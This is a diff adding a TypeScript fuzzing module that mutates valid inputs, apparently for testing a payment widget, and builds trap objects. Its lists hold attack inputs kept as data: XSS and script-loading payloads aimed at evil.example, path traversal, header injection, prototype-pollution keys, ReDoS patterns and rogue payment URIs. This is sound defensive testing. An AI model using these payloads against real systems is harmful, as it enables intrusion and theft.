@@ -1,0 +1,402 @@
+import type { Random } from '../../faults/random.ts';
+
+/** One change of a valid input: where, of which kind, and what stands there then. Nothing but data: it can be printed and replayed. */
+export interface Mutation {
+  path: readonly (string | number)[];
+  kind: string;
+  /** Left out where the kind takes the place away. */
+  value?: unknown;
+}
+
+/** Stands for what JSON cannot say, where a door takes objects of the page: a getter that throws and the like. */
+export interface Trap {
+  $trap: 'getter' | 'proxy' | 'cycle' | 'function' | 'symbol' | 'date' | 'map' | 'bigint' | 'revoked';
+}
+
+/** Secrets of the user that no mutated input may bring to a host, a log or monitoring: a test card, its code, a token. */
+export const SECRETS = {
+  card: '5555555555554444',
+  code: '8431',
+  token: 'canary-7d1f0c2b9a4e4f6d8b3a5c7e9f1b2d4c',
+  account: '032180000118359719',
+  mail: 'canary.payer@example.com',
+} as const;
+
+const NUMBERS = [
+  0,
+  -0,
+  -1,
+  1,
+  0.1,
+  1e-9,
+  1e21,
+  2 ** 31,
+  2 ** 32,
+  2 ** 53,
+  -(2 ** 53),
+  8.64e15,
+  8.64e15 + 1,
+  -8.64e15,
+  1e308,
+] as const;
+const NOT_FINITE = [Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY] as const;
+const TEXTS = [
+  '',
+  ' ',
+  '0',
+  '-0',
+  '00',
+  '1e3',
+  '0x10',
+  '1,000.00',
+  '1.000,00',
+  '１２',
+  '٣٢',
+  'NaN',
+  'Infinity',
+  'null',
+  'true',
+  '999999999999999999999999',
+  '0.000000000000000000001',
+  '-5',
+  '+5',
+  '5.',
+  '.5',
+  '\u0000',
+  '\ud800',
+  '\u212a',
+  '{{name}}',
+  '{{constructor}}',
+  '%s%n',
+  '../../../etc/passwd',
+  '//evil.example',
+  '\r\nSet-Cookie: a=b',
+] as const;
+const MARKUP = [
+  '<img src=x onerror=alert(1)>',
+  '"><script src=https://evil.example/x.js></script>',
+  '&lt;b&gt;',
+  '<!--',
+  ']]>',
+  '<svg onload=fetch("https://evil.example")>',
+  'url(https://evil.example/x.png)',
+  '; background: url(//evil.example/x)',
+] as const;
+const NAMES = [
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  'valueOf',
+  'hasOwnProperty',
+  'toLocaleString',
+  'then',
+  'toJSON',
+  'length',
+  'constructor.constructor',
+  '__proto__.polluted',
+  'isPrototypeOf',
+  '__defineGetter__',
+] as const;
+/** Characters that are not drawn, turn the line round, or pile up. */
+const SIGNS = [
+  '\u202e',
+  '\u2066',
+  '\u200b',
+  '\u200d',
+  '\ufeff',
+  '\u00ad',
+  '\u0301'.repeat(40),
+  '\u{1f468}\u200d\u{1f469}',
+  '\u061c',
+] as const;
+const URLS = [
+  'javascript:alert(1)',
+  ' javascript:alert(1)',
+  'java\nscript:alert(1)',
+  'JAVASCRIPT:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'blob:https://evil.example/1',
+  'file:///etc/passwd',
+  'vbscript:x',
+  'about:blank',
+  'intent://pay#Intent;end',
+  'ftp://evil.example/',
+  'https://evil.example/',
+  'http://evil.example/',
+  '//evil.example/',
+  '\\\\evil.example\\',
+  'https://user:pass@evil.example/',
+  'https://cashier.test@evil.example/',
+  'https://cashier.test.evil.example/',
+  'https://xn--80ak6aa92e.com/',
+  'https://[::1]/',
+  'https://127.0.0.1:1/',
+  'wss://evil.example/',
+  'ws://evil.example/',
+  'upi://pay?pa=thief@evil&am=99999',
+  'upi://mandate?pa=thief@evil',
+  'bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT',
+  'ethereum:0x0@1/transfer?address=0x1',
+  'https://',
+  'https://%',
+  'https:evil.example',
+] as const;
+const CURRENCIES = [
+  'XXX',
+  'usd',
+  '€',
+  'BTC',
+  'JPY',
+  'KWD',
+  'USD',
+  'CLF',
+  'USDT',
+  'MXNMXN',
+  '__proto__',
+  'M\u0425N',
+  '',
+] as const;
+const PATTERNS = [
+  '(a+)+$',
+  '^(([a-z])+.)+[A-Z]([a-z])+$',
+  '[',
+  '(?=',
+  '\\',
+  '(?<a>.)\\k<a>',
+  '^(?:.*.*)*$',
+  '.{99999}',
+  '\\p{Nope}',
+] as const;
+const MASKS = ['0'.repeat(300), '{{[', '[0000', '\\', '0-'.repeat(80), 'a*a*a*', '`0', '[]{}'] as const;
+
+/** The ways in which a card number is written where none belongs. */
+const spellCard = (random: Random): string => {
+  const groups = SECRETS.card.match(/.{4}/g) ?? [];
+  const between = random.pick([' ', '', '-', '_', '.', '  ', ' - ', '\u00a0', '•', '\u200b', '/']);
+  const plain = groups.join(between);
+  if (random.chance(0.2)) return plain.replace(/\d/g, (digit) => String.fromCharCode(0x660 + Number(digit)));
+  return plain;
+};
+
+const secretText = (random: Random): string => {
+  const secret = random.pick([
+    spellCard(random),
+    SECRETS.token,
+    SECRETS.account,
+    SECRETS.mail,
+    `cvv=${SECRETS.code}`,
+  ]);
+  return random.pick([secret, `Card ${secret} declined`, `{"error":"${secret}"}`, `code ${secret}.`]);
+};
+
+const nest = (depth: number, asArray: boolean): unknown => {
+  let value: unknown = 'deep';
+  for (let at = 0; at < depth; at += 1) value = asArray ? [value] : { a: value };
+  return value;
+};
+
+type Node = { path: readonly (string | number)[]; value: unknown };
+
+/** Every place of a value, itself first; of long lists and maps only the first places. */
+export function listPlaces(value: unknown, path: Node['path'] = [], found: Node[] = []): Node[] {
+  found.push({ path, value });
+  if (typeof value === 'object' && value !== null && path.length < 8)
+    for (const [key, part] of Object.entries(value).slice(0, 60))
+      listPlaces(part, [...path, Array.isArray(value) ? Number(key) : key], found);
+  return found;
+}
+
+/** A long list is no longer than this as JSON, characters. */
+const MAX_LIST_CHARS = 1_000_000;
+
+type Maker = (random: Random, current: unknown) => unknown;
+
+/** Kinds of changes that put another value in a place. */
+const REPLACE: Record<string, Maker> = {
+  type: (random, current) =>
+    random.pick([
+      null,
+      true,
+      false,
+      0,
+      1,
+      '',
+      'text',
+      [],
+      {},
+      [current],
+      { value: current },
+      [[]],
+      [null],
+      String(current),
+    ]),
+  number: (random) => random.pick([...NUMBERS, ...NUMBERS.map(String)]),
+  infinite: (random) => random.pick(NOT_FINITE),
+  text: (random) => random.pick(TEXTS),
+  markup: (random) => random.pick(MARKUP),
+  name: (random) => random.pick(NAMES),
+  signs: (random, current) => {
+    const text = typeof current === 'string' ? current : 'text';
+    const at = random.between(0, text.length);
+    return text.slice(0, at) + random.pick(SIGNS) + text.slice(at);
+  },
+  url: (random) => random.pick(URLS),
+  currency: (random) => random.pick(CURRENCIES),
+  pattern: (random) => random.pick([...PATTERNS, ...MASKS]),
+  secret: (random) => secretText(random),
+  'long text': (random) =>
+    random
+      .pick(['a', ' ', '9', '\u202e', 'é', '.', 'a '] as const)
+      .repeat(random.pick([300, 5_000, 100_000, 400_000])),
+  'long list': (random, current) => {
+    const item = Array.isArray(current) ? current[0] : current;
+    // The lines of a cashier are bounded (contract): an answer of more than this is none.
+    const most = Math.floor(MAX_LIST_CHARS / (JSON.stringify(item)?.length || 1));
+    return Array.from({ length: Math.min(most, random.pick([200, 5_000, 20_000])) }, () => item);
+  },
+  'wide map': (random) =>
+    Object.fromEntries(Array.from({ length: random.pick([500, 10_000]) }, (_, at) => [`key${at}`, at])),
+  deep: (random) => nest(random.pick([40, 1_000, 4_000]), random.chance(0.5)),
+  bits: (random, current) => {
+    if (typeof current !== 'string' || current === '') return random.pick(TEXTS);
+    const at = random.between(0, current.length - 1);
+    const other = String.fromCharCode(current.charCodeAt(at) ^ (1 << random.between(0, 6)));
+    return current.slice(0, at) + other + current.slice(at + 1);
+  },
+  cut: (random, current) =>
+    typeof current === 'string' ? current.slice(0, random.between(0, current.length)) : null,
+};
+
+const TRAPS: Trap['$trap'][] = [
+  'getter',
+  'proxy',
+  'cycle',
+  'function',
+  'symbol',
+  'date',
+  'map',
+  'bigint',
+  'revoked',
+];
+
+/** Plans changes of a valid value. @param hasTraps the door takes objects of the page */
+export function planMutations(valid: unknown, random: Random, count: number, hasTraps = false): Mutation[] {
+  const places = listPlaces(valid);
+  return Array.from({ length: count }, () => {
+    // A leaf is chosen as often as a branch: the root alone would end most runs at the door.
+    const place = random.chance(0.03) ? places[0] : random.pick(places);
+    const { path, value } = place ?? { path: [], value: valid };
+    if (hasTraps && random.chance(0.15)) return { path, kind: 'trap', value: { $trap: random.pick(TRAPS) } };
+    if (random.chance(0.12) && path.length > 0) return { path, kind: 'missing' };
+    if (typeof value === 'object' && value !== null && random.chance(0.4))
+      return planBranch(value, path, random);
+    const kind = random.pick(Object.keys(REPLACE));
+    return { path, kind, value: REPLACE[kind]?.(random, value) };
+  });
+}
+
+/** A change of a list or a map that keeps it one: something extra, or the same twice. */
+function planBranch(value: object, path: Node['path'], random: Random): Mutation {
+  const kind = random.pick(Object.keys(REPLACE));
+  const extra = REPLACE[kind]?.(random, 'x');
+  if (Array.isArray(value)) {
+    const item = value.length > 0 && random.chance(0.5) ? value[0] : extra;
+    return { path: [...path, value.length], kind: 'extra item', value: item };
+  }
+  const [firstKey] = Object.keys(value);
+  if (firstKey !== undefined && random.chance(0.3))
+    return { path: [...path, `${firstKey}#2`], kind: 'same twice', value: Reflect.get(value, firstKey) };
+  return { path: [...path, random.pick(NAMES)], kind: `extra key: ${kind}`, value: extra };
+}
+
+/** A copy of a value with the changes in it. A place that an earlier change took away is left alone. */
+export function applyMutations<T>(valid: T, mutations: readonly Mutation[]): unknown {
+  let root: unknown = structuredClone(valid);
+  for (const { path, kind, value } of mutations) {
+    const last = path.at(-1);
+    if (last === undefined) {
+      root = value;
+      continue;
+    }
+    let parent: unknown = root;
+    for (const key of path.slice(0, -1)) parent = own(parent, key);
+    if (typeof parent !== 'object' || parent === null) continue;
+    if (kind === 'missing') Reflect.deleteProperty(parent, last);
+    // Defined, not assigned: JSON.parse makes an own `__proto__` too.
+    else Object.defineProperty(parent, last, { value, writable: true, enumerable: true, configurable: true });
+  }
+  return root;
+}
+
+const own = (value: unknown, key: string | number): unknown =>
+  typeof value === 'object' && value !== null && Object.hasOwn(value, key)
+    ? Reflect.get(value, key)
+    : undefined;
+
+/** Makes objects of the page out of their stand-ins, at any depth. */
+export function setTraps(value: unknown, depth = 0): unknown {
+  if (typeof value !== 'object' || value === null || depth > 10) return value;
+  if ('$trap' in value) return makeTrap(value as Trap);
+  for (const key of Object.keys(value).slice(0, 200)) {
+    const part = own(value, key);
+    if (typeof part !== 'object' || part === null) continue;
+    const isGetter = '$trap' in part && (part as Trap).$trap === 'getter';
+    if (isGetter)
+      Object.defineProperty(value, key, {
+        enumerable: true,
+        configurable: true,
+        get() {
+          throw new Error('trap: a getter');
+        },
+      });
+    else
+      Object.defineProperty(value, key, {
+        value: setTraps(part, depth + 1),
+        writable: true,
+        enumerable: true,
+        configurable: true,
+      });
+  }
+  return value;
+}
+
+function makeTrap({ $trap }: Trap): unknown {
+  const refuse = () => {
+    throw new Error('trap: a proxy');
+  };
+  switch ($trap) {
+    case 'proxy':
+    case 'getter':
+      return new Proxy(
+        {},
+        {
+          get: refuse,
+          has: refuse,
+          ownKeys: refuse,
+          getOwnPropertyDescriptor: refuse,
+          getPrototypeOf: refuse,
+        },
+      );
+    case 'revoked': {
+      const { proxy, revoke } = Proxy.revocable({}, {});
+      revoke();
+      return proxy;
+    }
+    case 'cycle': {
+      const cycle: Record<string, unknown> = {};
+      cycle.self = cycle;
+      return cycle;
+    }
+    case 'function':
+      return () => refuse();
+    case 'symbol':
+      return Symbol('trap');
+    case 'date':
+      return new Date(Number.NaN);
+    case 'map':
+      return new Map([['a', 1]]);
+    case 'bigint':
+      return 10n ** 40n;
+  }
+}
